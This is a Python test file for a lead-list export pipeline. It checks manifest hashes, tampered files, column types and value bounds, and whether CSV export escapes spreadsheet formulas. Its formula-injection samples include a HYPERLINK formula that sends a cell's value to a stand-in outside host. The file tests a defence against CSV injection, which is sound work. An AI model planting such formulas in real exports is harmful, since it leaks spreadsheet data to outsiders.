from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from conversion.features.facts import facts_of
from conversion.leads.lead_columns import REASON_COLUMNS, lead_columns
from conversion.leads.lead_files import (
    CONTRIBUTIONS,
    CONVERTED,
    CONVERTED_CONTRIBUTIONS,
    EVIDENCE,
    MANIFEST,
    REASON_FACTS,
    USAGE,
    Manifest,
    read_lead_files,
    read_reason_facts,
)
from conversion.runtime.errors import ArtifactError, InputError
from conversion.runtime.files import sha256, write_json, write_parquet
from conversion.runtime.seals import sealed
from tests.contract_files import hubspot
from tests.lead_files import hash_anew, write_list
from tests.pipeline import Pipeline
from tests.serving import SHA256, small_pipeline

FORMATS = ("csv", "json", "parquet")
TOP = 3
# What an export may say, and a spreadsheet would run; and what looks as if it had been made harmless.
FORMULAS = (
    '=HYPERLINK("http://x.example?"&A1,"sales")',
    "@SUM(1+1)",
    "+1",
    "-1",
    "\t=1",
    "'=1",
    "' ",
    "(+) 1",
)

DECIMAL = ("probability", "expected_mrr", "probability_before", "fit", "activity", "ALEXA_RANK")
NUMBERS = ("rank", "id", "rank_before", *DECIMAL, "last_week_actions", "last_week_users")
PRESENT = ("rank", "id", "probability", "tier", "expected_mrr", "fit", "activity", "sector", "evidence")
BESIDE = (USAGE, EVIDENCE, CONTRIBUTIONS, REASON_FACTS, CONVERTED, CONVERTED_CONTRIBUTIONS)


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return small_pipeline()


def write(folder: Path, pipeline: Pipeline, file_format: str, leads: pd.DataFrame | None = None) -> Path:
    return write_list(folder, pipeline, file_format, leads, TOP)


# What is written together


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_manifest_says_what_the_list_is_and_was_made_from(
    tmp_path: Path, pipeline: Pipeline, file_format: str
) -> None:
    folder = write(tmp_path, pipeline, file_format)
    names = {f"leads.{file_format}", f"top_leads.{file_format}", *BESIDE}
    assert {path.name for path in folder.iterdir()} == names | {MANIFEST}
    written = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    assert written.pop("sha256")
    assert written == {
        "as_of": f"{pipeline.as_of:%Y-%m-%d}",
        "model_sha256": SHA256,
        "inputs": {"data/clean/usage.parquet": sha256(tmp_path / "clean.parquet")},
        "prospects": len(pipeline.leads),
        "tier_cuts": pipeline.ranked.cuts.model_dump(),
        "files": {name: sha256(folder / name) for name in names},
    }
    assert written.keys() == Manifest.model_fields.keys()


def test_the_same_list_is_the_same_bytes(tmp_path: Path, pipeline: Pipeline) -> None:
    one, two = (write(tmp_path / name, pipeline, "csv") for name in ("one", "two"))
    for path in one.iterdir():
        assert path.read_bytes() == (two / path.name).read_bytes(), path.name


def test_a_list_keeps_its_date_model_and_usage_when_the_next_export_is_cleaned(
    tmp_path: Path, pipeline: Pipeline
) -> None:
    write(tmp_path, pipeline, "csv")
    write_json(tmp_path / "data/clean/export.json", {"as_of": "2030-01-07"})
    write_parquet(tmp_path / "data/clean/usage.parquet", pipeline.usage.head(0))
    write_parquet(tmp_path / "clean.parquet", pipeline.usage.head(0))
    found = read_lead_files(tmp_path, hubspot())
    assert found is not None
    assert found.manifest.as_of == pipeline.as_of.date()
    assert found.manifest.model_sha256 == SHA256
    pd.testing.assert_frame_equal(found.usage, pipeline.usage)


# Spreadsheets


@pytest.mark.parametrize("file_format", FORMATS)
def test_texts_come_back_as_they_were_whatever_they_look_like(
    tmp_path: Path, pipeline: Pipeline, file_format: str
) -> None:
    leads = pipeline.leads.head(len(FORMULAS)).assign(INDUSTRY=pd.Series(FORMULAS, dtype="str"))
    write(tmp_path, pipeline, file_format, leads)
    found = read_lead_files(tmp_path, hubspot())
    assert found is not None
    assert found.leads["INDUSTRY"].tolist() == list(FORMULAS)
    for name in REASON_COLUMNS:
        assert found.leads[name].tolist() == leads[name].tolist()


def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path, pipeline: Pipeline) -> None:
    leads = pipeline.leads.head(len(FORMULAS)).assign(INDUSTRY=pd.Series(FORMULAS, dtype="str"))
    folder = write(tmp_path, pipeline, "csv", leads)
    for name, rows in (("leads.csv", len(FORMULAS)), ("top_leads.csv", TOP)):
        with (folder / name).open(encoding="utf-8", newline="") as file:
            table = list(csv.DictReader(file))
        assert len(table) == rows
        cells = [cell for row in table for column, cell in row.items() if column not in ("fit", "activity")]
        assert not [cell for cell in cells if re.match(r"\s*[=+\-@]|[\t\r\n]", cell)]
        assert [row["INDUSTRY"] for row in table] == [f"'{text}" for text in FORMULAS[:-1]][:rows] + (
            ["(+) 1"] if rows == len(FORMULAS) else []
        )
        reasons = pipeline.leads["reason_1"].head(rows).fillna("").tolist()
        assert [row["reason_1"] for row in table] == reasons


def test_json_keeps_the_texts_of_the_service(tmp_path: Path, pipeline: Pipeline) -> None:
    folder = write(tmp_path, pipeline, "json", pipeline.leads.head(1).assign(INDUSTRY="=1"))
    (lead,) = json.loads((folder / "leads.json").read_text(encoding="utf-8"))
    assert lead["INDUSTRY"] == "=1"
    assert lead["reason_1"] == pipeline.leads["reason_1"].iloc[0]


# What does not belong together


def test_without_a_list_there_is_none(tmp_path: Path) -> None:
    assert read_lead_files(tmp_path, hubspot()) is None


def test_of_lists_in_two_formats_the_manifest_says_which_counts(tmp_path: Path, pipeline: Pipeline) -> None:
    write(tmp_path, pipeline, "json")
    folder = write(tmp_path, pipeline, "csv", pipeline.leads.head(5))
    assert (folder / "leads.json").is_file()
    found = read_lead_files(tmp_path, hubspot())
    assert found is not None
    assert len(found.leads) == 5


def test_a_manifest_that_names_no_list_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    folder = write(tmp_path, pipeline, "csv")
    written = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    del written["sha256"], written["files"]["leads.csv"]
    write_json(folder / MANIFEST, sealed(written))
    with pytest.raises(ArtifactError, match=r"manifest.json: names no file leads\.\*; run 'dvc repro score'"):
        read_lead_files(tmp_path, hubspot())


@pytest.mark.parametrize("lost", ["leads.csv", *BESIDE])
def test_a_lost_file_is_named(tmp_path: Path, pipeline: Pipeline, lost: str) -> None:
    (write(tmp_path, pipeline, "csv") / lost).unlink()
    with pytest.raises(
        ArtifactError, match=f"{lost}: not found, but .*{MANIFEST} is there; run 'dvc repro score'"
    ):
        read_everything(tmp_path)


def read_everything(root: Path) -> None:
    files = read_lead_files(root, hubspot())
    assert files is not None
    read_reason_facts(root, files)


def test_the_facts_of_reasons_are_those_of_the_leads(tmp_path: Path, pipeline: Pipeline) -> None:
    folder = write(tmp_path, pipeline, "csv")
    files = read_lead_files(tmp_path, hubspot())
    assert files is not None

    facts = read_reason_facts(tmp_path, files)

    known = {fact.key for fact in facts_of(pipeline.model.features, hubspot())}
    for place, reason in enumerate(REASON_COLUMNS, start=1):
        assert (facts[f"fact_{place}"].notna() == files.leads[reason].notna()).all()
        assert set(facts[f"fact_{place}"].dropna()) <= known
    write_parquet(folder / REASON_FACTS, facts.iloc[::-1])
    hash_anew(folder)
    with pytest.raises(ArtifactError, match="should have the ids of the leads beside it"):
        read_everything(tmp_path)


def test_a_list_that_was_not_written_to_its_end(tmp_path: Path, pipeline: Pipeline) -> None:
    (write(tmp_path, pipeline, "csv") / MANIFEST).unlink()
    with pytest.raises(
        ArtifactError, match=f"{MANIFEST}: not found, but .*leads.csv is there: 'score' did not end"
    ):
        read_lead_files(tmp_path, hubspot())


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("other", ["leads", USAGE])
def test_a_file_of_another_run_is_refused(
    tmp_path: Path, pipeline: Pipeline, file_format: str, other: str
) -> None:
    ours = write(tmp_path / "ours", pipeline, file_format)
    shorter = Pipeline.__new__(Pipeline)
    shorter.__dict__ = pipeline.__dict__ | {"usage": pipeline.usage.head(9)}
    theirs = write(tmp_path / "theirs", shorter, file_format, pipeline.leads.head(9))
    name = USAGE if other == USAGE else f"leads.{file_format}"
    (theirs / name).replace(ours / name)
    with pytest.raises(ArtifactError) as told:
        read_lead_files(tmp_path / "ours", hubspot())
    assert re.fullmatch(
        rf".*{name}: sha256 is [0-9a-f]{{64}}, but .*{MANIFEST} says [0-9a-f]{{64}}: the file was changed or "
        r"is of another run; run 'dvc repro score' to write it again",
        str(told.value),
    )


def test_an_edited_list_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    path = write(tmp_path, pipeline, "csv") / "leads.csv"
    first = str(pipeline.leads["id"].iloc[0])
    path.write_text(path.read_text(encoding="utf-8").replace(first, "666", 1), encoding="utf-8")
    with pytest.raises(ArtifactError, match=r"leads\.csv: sha256 is"):
        read_lead_files(tmp_path, hubspot())


def test_an_edited_manifest_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    path = write(tmp_path, pipeline, "csv") / MANIFEST
    text = path.read_text(encoding="utf-8").replace(f"{pipeline.as_of:%Y-%m-%d}", "2030-01-07")
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ArtifactError, match=f"{MANIFEST}: its content is not what its own sha256 says"):
        read_lead_files(tmp_path, hubspot())


@pytest.mark.parametrize(
    ("changed", "says"),
    [
        ({"as_of": "soon"}, "as_of: Input should be a valid date"),
        ({"model_sha256": "x"}, "model_sha256: String should match"),
        ({"files": {"leads.csv": 7}}, "files.leads.csv: Input should be a valid string"),
        ({"more": 1}, "more: Extra inputs"),
    ],
)
def test_a_manifest_of_another_kind_is_told_in_one_line(
    tmp_path: Path, pipeline: Pipeline, changed: dict[str, Any], says: str
) -> None:
    path = write(tmp_path, pipeline, "csv") / MANIFEST
    written = json.loads(path.read_text(encoding="utf-8"))
    del written["sha256"]
    write_json(path, sealed(written | changed))
    with pytest.raises(ArtifactError) as told:
        read_lead_files(tmp_path, hubspot())
    assert f"{path}: {says}" in str(told.value)
    assert "\n" not in str(told.value)


@pytest.mark.parametrize("content", ["", "{", "\x00"])
def test_a_manifest_that_is_no_json_is_told_in_one_line(
    tmp_path: Path, pipeline: Pipeline, content: str
) -> None:
    path = write(tmp_path, pipeline, "csv") / MANIFEST
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=f"{MANIFEST}: not what .* writes "):
        read_lead_files(tmp_path, hubspot())


# A list that agrees with its manifest, and is none


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_table_that_is_no_lead_list(tmp_path: Path, pipeline: Pipeline, file_format: str) -> None:
    write(tmp_path, pipeline, file_format, pipeline.leads.drop(columns=["tier", "reason_2"]))
    with pytest.raises(ArtifactError, match="lacks the columns tier, reason_2; run 'dvc repro score'"):
        read_lead_files(tmp_path, hubspot())


def spoil(folder: Path, file_format: str, column: str, value: Any) -> None:
    """Replace a cell of the third row, and hash anew."""
    path = folder / f"leads.{file_format}"
    if file_format == "csv":
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        rows[2][column] = "" if value is None else str(value)
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, lead_columns(hubspot()), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    else:
        rows = json.loads(path.read_text(encoding="utf-8"))
        rows[2][column] = value
        path.write_text(json.dumps(rows), encoding="utf-8")
    hash_anew(folder)


@pytest.mark.parametrize("file_format", ["csv", "json"])
@pytest.mark.parametrize("column", NUMBERS)
def test_text_where_a_number_belongs_is_refused(
    tmp_path: Path, pipeline: Pipeline, file_format: str, column: str
) -> None:
    spoil(write(tmp_path, pipeline, file_format), file_format, column, "call first")
    with pytest.raises(ArtifactError) as told:
        read_lead_files(tmp_path, hubspot())
    kind = "a number" if column in DECIMAL else "a whole number"
    expected = f"leads.{file_format}: {column}: given 'call first' in row 3, should be {kind}; run 'dvc repro"
    assert expected in str(told.value)


@pytest.mark.parametrize("file_format", ["csv", "json"])
@pytest.mark.parametrize("column", PRESENT)
def test_a_value_that_is_missing_is_refused(
    tmp_path: Path, pipeline: Pipeline, file_format: str, column: str
) -> None:
    spoil(write(tmp_path, pipeline, file_format), file_format, column, None)
    with pytest.raises(ArtifactError, match=rf"{column}: given nothing in row 3, should be a value in each"):
        read_lead_files(tmp_path, hubspot())


@pytest.mark.parametrize(
    ("column", "value", "says"),
    [
        ("rank", 1, "the places 1, 2, 3, ..."),
        ("rank", 2.5, "a whole number"),
        ("rank_before", 2.5, "a whole number"),
        ("probability_before", 1.5, "from 0 to 1"),
        ("fit", "inf", "a number"),
        ("probability", 1.5, "from 0 to 1"),
        ("probability", -0.1, "from 0 to 1"),
        ("tier", "highest", "a tier"),
        ("expected_mrr", "inf", "a number"),
        ("last_week_users", 0.5, "a whole number"),
    ],
)
def test_a_value_out_of_bounds_is_refused(
    tmp_path: Path, pipeline: Pipeline, column: str, value: Any, says: str
) -> None:
    spoil(write(tmp_path, pipeline, "csv"), "csv", column, value)
    with pytest.raises(ArtifactError, match=rf"leads\.csv: {column}: given .* in row 3, should be {says}"):
        read_lead_files(tmp_path, hubspot())


def test_a_company_that_is_listed_twice_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    spoil(write(tmp_path, pipeline, "csv"), "csv", "id", pipeline.leads["id"].iloc[0])
    with pytest.raises(ArtifactError, match=r"id: given .* in row 3, should be each company once"):
        read_lead_files(tmp_path, hubspot())


@pytest.mark.parametrize("column", ["tier", "INDUSTRY", "sector", "last_active_week", "reason_3", "caution"])
def test_a_number_where_text_belongs_is_refused(tmp_path: Path, pipeline: Pipeline, column: str) -> None:
    spoil(write(tmp_path, pipeline, "json"), "json", column, 7)
    with pytest.raises(ArtifactError, match=f"{column}: given 7 in row 3, should be text"):
        read_lead_files(tmp_path, hubspot())


def test_what_stands_beside_the_list_is_read_as_it_was(tmp_path: Path, pipeline: Pipeline) -> None:
    write(tmp_path, pipeline, "csv")
    found = read_lead_files(tmp_path, hubspot())
    assert found is not None
    pd.testing.assert_frame_equal(found.contributions, pipeline.ranked.contributions)
    pd.testing.assert_frame_equal(found.converted, pipeline.converted.companies)
    pd.testing.assert_frame_equal(found.converted_contributions, pipeline.converted.contributions)
    assert found.evidence == pipeline.evidence
    assert found.manifest.tier_cuts == pipeline.ranked.cuts
    assert set(found.contributions.drop(columns="id").dtypes) == {np.dtype("float64")}


def test_a_list_of_an_earlier_version_asks_for_dvc_repro(tmp_path: Path, pipeline: Pipeline) -> None:
    path = write(tmp_path, pipeline, "csv") / MANIFEST
    written = json.loads(path.read_text(encoding="utf-8"))
    del written["sha256"], written["tier_cuts"]
    write_json(path, sealed(written))
    with pytest.raises(ArtifactError) as told:
        read_lead_files(tmp_path, hubspot())
    assert str(told.value) == (
        f"{path}: has no tier_cuts: another version of the project wrote it; "
        "run 'dvc repro score' to write it again"
    )


@pytest.mark.parametrize("name", [CONTRIBUTIONS, CONVERTED_CONTRIBUTIONS])
@pytest.mark.parametrize("fault", ["order", "missing", "text", "rows"])
def test_contributions_of_others_are_refused(
    tmp_path: Path, pipeline: Pipeline, name: str, fault: str
) -> None:
    folder = write(tmp_path, pipeline, "csv")
    table = pd.read_parquet(folder / name)
    changed = {
        "order": table.iloc[::-1],
        "missing": table.assign(people=np.nan),
        "text": table.assign(people="many"),
        "rows": table.head(2),
    }
    write_parquet(folder / name, changed[fault])
    hash_anew(folder)
    with pytest.raises(ArtifactError, match=f"{name}: should have numbers for the ids of the table"):
        read_lead_files(tmp_path, hubspot())


def test_a_company_that_converted_on_no_day_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    folder = write(tmp_path, pipeline, "csv")
    days = pipeline.converted.companies["converted"].where(pipeline.converted.companies.index != 2)
    write_parquet(folder / CONVERTED, pipeline.converted.companies.assign(converted=days))
    hash_anew(folder)
    with pytest.raises(
        ArtifactError,
        match=r"converted\.parquet: converted: given nothing in row 3, should be a value in each",
    ):
        read_lead_files(tmp_path, hubspot())


def test_evidence_with_gaps_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    folder = write(tmp_path, pipeline, "csv")
    evidence = pipeline.evidence.model_dump(by_alias=True)
    write_json(folder / EVIDENCE, evidence | {"lists": 0})
    hash_anew(folder)
    with pytest.raises(ArtifactError, match=r"evidence\.json: lists: Input should be greater"):
        read_lead_files(tmp_path, hubspot())


def test_usage_that_lacks_columns_is_refused(tmp_path: Path, pipeline: Pipeline) -> None:
    folder = write(tmp_path, pipeline, "csv")
    write_parquet(folder / USAGE, pipeline.usage.drop(columns="USERS_EMAIL"))
    hash_anew(folder)
    with pytest.raises(InputError, match="it lacks the columns USERS_EMAIL"):
        read_lead_files(tmp_path, hubspot())


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_empty_list_is_a_list(tmp_path: Path, pipeline: Pipeline, file_format: str) -> None:
    write(tmp_path, pipeline, file_format, pipeline.leads.head(0))
    found = read_lead_files(tmp_path, hubspot())
    assert found is not None
    assert found.leads.empty
